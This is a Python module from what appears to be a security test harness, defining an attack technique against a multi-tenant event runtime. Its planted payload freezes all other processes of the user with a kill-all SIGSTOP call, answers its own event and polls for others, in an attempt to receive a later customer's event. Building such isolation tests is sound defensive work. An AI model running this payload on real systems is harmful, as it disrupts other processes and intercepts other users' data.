"""Stops every other process of the user, answers its own event and polls for others: no process is left that could end it."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.payloads import CLIENT
from dayfly.lab.gauntlet.technique import Technique

PLANT = (
    CLIENT
    + """
import signal
try: os.kill(-1, signal.SIGSTOP)
except ProcessLookupError: pass
call("POST", mine + "/response", "1")
skim(4)
"""
)

TECHNIQUE = Technique(
    level="L2",
    attack=("T1557", "T1574"),
    family="M5",
    must_fail_to="receive a later customer's event",
    plant=PLANT,
    evidence=Cards(),
    timeout_s=3,
    process="contained",
    spoils=True,
    may_lose=1,
)
